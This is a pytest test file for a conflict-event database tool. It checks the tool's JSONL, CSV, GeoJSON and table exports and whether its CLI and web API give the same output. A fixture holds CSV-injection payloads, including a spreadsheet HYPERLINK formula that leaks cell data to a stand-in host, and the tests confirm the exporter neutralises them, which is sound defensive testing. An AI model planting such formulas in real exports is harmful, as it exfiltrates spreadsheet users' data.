from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from frontwire import cli, export
from frontwire.model import EVENT_FIELDS, Event, Evidence
from frontwire.store import Store
from frontwire.web import create_app
from test_store import article, event
from test_web_api import singleton_clusters


def _event(**changes: object) -> Event:
    base: dict[str, object] = {
        "event_id": "abc", "article_id": "art", "event_date": "2020-07-12", "event_date_end": "2020-07-12",
        "time_precision": 1, "event_type": "Explosions/Remote violence",
        "sub_event_type": "Shelling/artillery/missile attack", "plover_type": "ASSAULT",
        "actor1": "Military Forces of Armenia", "actor1_iso3": "ARM", "actor2": "Military Forces of Azerbaijan",
        "actor2_iso3": "AZE", "country": "Azerbaijan", "iso3": "AZE", "admin1": "Tovuz", "admin2": None, "location": "Tovuz",
        "latitude": 40.99, "longitude": 45.63, "geonames_id": 585170, "geo_precision": 1, "fatalities": 13,
        "deaths_actor1": None, "deaths_actor2": 12, "deaths_civilians": 1, "deaths_unknown": None, "status": "reported",
        "attributed_to": None, "source": "news.example.org", "url": "https://news.example.org/x", "published": "2020-09-16",
        "notes": "On 12 July 2020, ...", "evidence": [Evidence("Armenian forces shelled.", 10, 34)], "confidence": 0.9}
    base.update(changes)
    return Event(**base)  # type: ignore[arg-type]


def test_jsonl_round_trips_every_field() -> None:
    out = io.StringIO()
    assert export.write([_event()], "jsonl", out) == 1
    record = json.loads(out.getvalue())
    assert tuple(record) == EVENT_FIELDS
    assert record["evidence"] == [{"text": "Armenian forces shelled.", "start": 10, "end": 34}]


def test_csv_uses_acled_column_names() -> None:
    out = io.StringIO()
    export.write([_event(), _event(event_id="def", admin1=None)], "csv", out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0]["event_id_cnty"] == "abc"
    assert rows[0]["year"] == "2020"
    assert rows[0]["fatalities"] == "13"
    assert rows[1]["admin1"] == ""
    assert json.loads(rows[0]["evidence"])[0]["start"] == 10


def test_geojson_keeps_only_located_events() -> None:
    out = io.StringIO()
    n = export.write([_event(), _event(event_id="x", latitude=None, longitude=None)], "geojson", out)
    collection = json.loads(out.getvalue())
    assert n == 1 and collection["type"] == "FeatureCollection"
    feature = collection["features"][0]
    assert feature["geometry"] == {"type": "Point", "coordinates": [45.63, 40.99]}
    assert feature["properties"]["fatalities"] == 13


def test_table_shows_each_event_and_its_notes() -> None:
    out = io.StringIO()
    export.write([_event(), _event(event_type=None, sub_event_type=None, plover_type="THREATEN")], "table", out)
    text = out.getvalue()
    assert "Shelling/artillery/missile" in text and "(THREATEN)" in text
    assert text.count("On 12 July 2020") == 2


@pytest.mark.parametrize("width", [80, 100, 200])
def test_the_table_fits_the_terminal_and_never_cuts_a_number(width: int) -> None:
    long_actor = "Unidentified Armed Group (Democratic Republic of Congo) and allied militia fighters"
    events = [_event(fatalities=15000, actor1=long_actor, notes="Fighting was reported around the town " * 6),
              _event(fatalities=3, event_date=None)]
    out = io.StringIO()
    export.write_table(events, out, width=width)
    lines = out.getvalue().splitlines()
    assert all(len(line) <= width for line in lines), [line for line in lines if len(line) > width]
    header = lines[0]
    dead = header.index("dead")
    assert lines[2][dead:].strip() == "15000"  # the whole toll, under its header
    assert any(line.startswith("    Fighting was reported") for line in lines)
    assert " ".join(out.getvalue().split()).count("around the town") == 6  # the notes wrapped, not cut
    if width >= 200:
        assert long_actor in out.getvalue()  # room enough: nothing cut


def test_column_widths_give_way_in_the_text_columns_only() -> None:
    columns = [("date", False), ("type", True), ("actors", True), ("dead", False)]
    cells = [["2020-07-12", "x" * 30, "y" * 50, "123456"]]
    assert export.column_widths(columns, cells, 200) == [10, 30, 50, 6]
    assert export.column_widths(columns, cells, 80) == [10, 29, 29, 6]  # 10+29+29+6 and three 2-space gaps = 80
    assert export.column_widths(columns, cells, 10) == [10, 10, 10, 6]  # never below the minimum


# --- formulas in CSV: the CLI's file and the API's export, one writer -----------------------------

# Text an article could carry into a field that a spreadsheet would run (OWASP's CSV injection).
FORMULAS = {
    "actor1": '=HYPERLINK("http://evil.example/?leak="&A1,"details")',
    "actor2": "@SUM(A1:A9)",
    "notes": "+1 more soldier died later in hospital",
    "source": "-2+3",
    "attributed_to": "\t=1+1",
    "location": "\rTovuz",
}


def _formula_store(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'formulas.sqlite'}"
    with Store.open(url) as store:
        a, b = article(1), article(2)
        store.add_article(a, [event(a.article_id, 0, latitude=-3.2, longitude=-60.02, fatalities=4, **FORMULAS)])
        store.add_article(b, [event(b.article_id, 0, event_date="2020-07-13", notes="Shelling near Tovuz")])
        singleton_clusters(store)
    return url


def _cli_csv(capsys: pytest.CaptureFixture[str], url: str) -> str:
    capsys.readouterr()
    assert cli.main(["events", "--db", url, "--format", "csv"]) == 0
    return capsys.readouterr().out


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_cli_csv_defuses_formulas_and_keeps_negative_numbers(tmp_path: Path,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    rows = list(csv.DictReader(io.StringIO(_cli_csv(capsys, _formula_store(tmp_path)), newline="")))
    assert len(rows) == 2
    row = rows[0]
    for field, text in FORMULAS.items():  # read back as a spreadsheet reads it: the apostrophe makes it text
        assert row[field] == "'" + text, field
    assert (row["latitude"], row["longitude"], row["fatalities"]) == ("-3.2", "-60.02", "4")
    assert rows[1]["notes"] == "Shelling near Tovuz"  # plain text is left alone
    for r in rows:  # no cell a spreadsheet would run: a cell starting so is a number
        assert all(_is_number(v) for v in r.values() if v.startswith(export.FORMULA_START)), r


def test_api_csv_is_the_cli_csv_without_the_evidence(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The API's records carry no evidence sentences; every other column is the same, byte for byte."""
    url = _formula_store(tmp_path)
    cli_rows = list(csv.reader(io.StringIO(_cli_csv(capsys, url), newline="")))
    with TestClient(create_app(url)) as c:
        api_text = c.get("/api/events", params={"format": "csv", "all": "true"}).text
    at = cli_rows[0].index("evidence")
    expected = io.StringIO()
    csv.writer(expected).writerows(r[:at] + r[at + 1:] for r in cli_rows)
    assert api_text == expected.getvalue()
    header = next(csv.reader(io.StringIO(api_text)))
    assert header[-6:] == ["cluster_id", "n_reports", "report_fatalities", "fatalities_rule", "review_status",
                           "review_edited"]


# --- JSON and GeoJSON: the CLI's and the API's records and features, one writer -------------------

def _strict(text: str) -> object:
    """JSON as a browser's JSON.parse reads it: NaN and Infinity are not JSON."""
    def refuse(constant: str) -> object:
        raise ValueError(f"not JSON: {constant}")
    return json.loads(text, parse_constant=refuse)


def _placed_store(tmp_path: Path) -> str:
    """Four events: placed, placed with text to escape, no latitude, and a longitude that is no number."""
    url = f"sqlite:///{tmp_path / 'placed.sqlite'}"
    rows: list[dict[str, object]] = [
        {"latitude": 40.99, "longitude": 45.63},
        {"event_date": "2020-07-13", "latitude": -3.2, "longitude": -60.02, "location": "Manaus \"city\"",
         "notes": "Schüsse nahe Manaus; «two» dead"},
        {"event_date": "2020-07-14", "latitude": None, "longitude": 45.1, "notes": "Somewhere in the region"},
        {"event_date": "2020-07-15", "latitude": 41.0, "longitude": float("inf"), "notes": "A broken geocode"},
    ]
    with Store.open(url) as store:
        for i, row in enumerate(rows):
            a = article(i + 1)
            store.add_article(a, [event(a.article_id, 0, **row)])
        singleton_clusters(store)
    return url


def _api_pages(c: TestClient, fmt: str, key: str) -> list[dict[str, object]]:
    """Every page's `key` list (limit 1: a page per event), each page parsed strictly."""
    out: list[dict[str, object]] = []
    cursor = None
    for _ in range(10):
        response = c.get("/api/events", params={"format": fmt, "limit": 1, **({"cursor": cursor} if cursor else {})})
        assert response.status_code == 200, response.text
        body = _strict(response.text)
        assert isinstance(body, dict)
        out += body[key]
        if (cursor := body["next"]) is None:
            return out
    raise AssertionError("pagination did not end")


def _without_evidence(record: dict[str, object]) -> list[tuple[str, object]]:
    """The record's members in order, less the evidence sentences the API's records lack."""
    return [(k, v) for k, v in record.items() if k != "evidence"]


def test_cli_and_api_give_the_same_geojson_features(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    url = _placed_store(tmp_path)
    capsys.readouterr()
    assert cli.main(["events", "--db", url, "--format", "geojson"]) == 0
    out, err = capsys.readouterr()
    collection = _strict(out)
    assert isinstance(collection, dict) and set(collection) == {"type", "features"}
    cli_features = collection["features"]
    assert "2 cluster(s) of 4; 2 without coordinates left out of the GeoJSON" in err
    with TestClient(create_app(url)) as c:
        api_features = _api_pages(c, "geojson", "features")
        everything = _strict(c.get("/api/events", params={"format": "geojson", "all": "true"}).text)
    assert isinstance(everything, dict) and everything["features"] == api_features
    assert [f["id"] for f in cli_features] == [f["id"] for f in api_features] == ["a0001-e0", "a0002-e0"]
    for cli_feature, api_feature in zip(cli_features, api_features, strict=True):
        assert list(cli_feature) == list(api_feature) == ["type", "id", "geometry", "properties"]
        assert cli_feature["geometry"] == api_feature["geometry"]
        cli_properties, api_properties = cli_feature["properties"], api_feature["properties"]
        assert isinstance(cli_properties, dict) and isinstance(api_properties, dict)
        assert _without_evidence(cli_properties) == _without_evidence(api_properties)
        assert "evidence" not in api_properties
    assert api_features[1]["geometry"] == {"type": "Point", "coordinates": [-60.02, -3.2]}
    second = api_features[1]["properties"]
    assert isinstance(second, dict) and second["notes"] == "Schüsse nahe Manaus; «two» dead"


def test_cli_jsonl_and_api_json_give_the_same_records(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    url = _placed_store(tmp_path)
    capsys.readouterr()
    assert cli.main(["events", "--db", url, "--format", "jsonl"]) == 0
    cli_records = [_strict(line) for line in capsys.readouterr().out.splitlines()]
    with TestClient(create_app(url)) as c:
        api_records = _api_pages(c, "json", "events")
        everything = _strict(c.get("/api/events", params={"all": "true"}).text)
    assert isinstance(everything, dict) and everything["events"] == api_records
    assert len(cli_records) == len(api_records) == 4
    for cli_record, api_record in zip(cli_records, api_records, strict=True):
        assert isinstance(cli_record, dict) and isinstance(api_record, dict)
        assert _without_evidence(cli_record) == _without_evidence(api_record)  # the same members, in order
        assert tuple(cli_record)[:len(EVENT_FIELDS)] == EVENT_FIELDS and "evidence" not in api_record
    assert api_records[2]["latitude"] is None and api_records[3]["longitude"] is None  # no number: null


def test_json_record_leaves_out_what_a_record_does_not_carry() -> None:
    brief = {"cluster_id": "c1", "event_date": "2020-07-12", "latitude": float("nan"), "review": {"status": "unreviewed"}}
    assert list(export.json_record(brief).items()) == [
        ("event_date", "2020-07-12"), ("latitude", None), ("cluster_id", "c1"), ("review", {"status": "unreviewed"})]
    assert export.feature(brief) is None
    with pytest.raises(ValueError, match="JSON compliant"):
        export.dumps({"latitude": float("inf")})  # never written as Infinity, which is not JSON
